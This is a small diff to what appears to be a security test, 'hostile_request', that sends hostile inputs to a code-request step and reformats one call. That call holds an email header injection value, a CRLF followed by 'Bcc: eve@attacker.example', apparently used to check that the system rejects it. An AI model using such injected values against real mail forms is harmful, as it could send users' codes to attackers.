@@ -32,7 +32,9 @@ async def hostile_request(walk: Walk) -> None:
         for text in EACH:
             await steps.request_code(walk, **{name: text}, trying="regenerate.hostile")
     await steps.request_code(
-        walk, email=f"{walk.person.email}\r\nBcc: eve@attacker.example", trying="regenerate.hostile"
+        walk,
+        email=f"{walk.account.email}\r\nBcc: eve@attacker.example",
+        trying="regenerate.hostile",
     )
     await steps.request_code(walk)
     await walk.receive_mail()
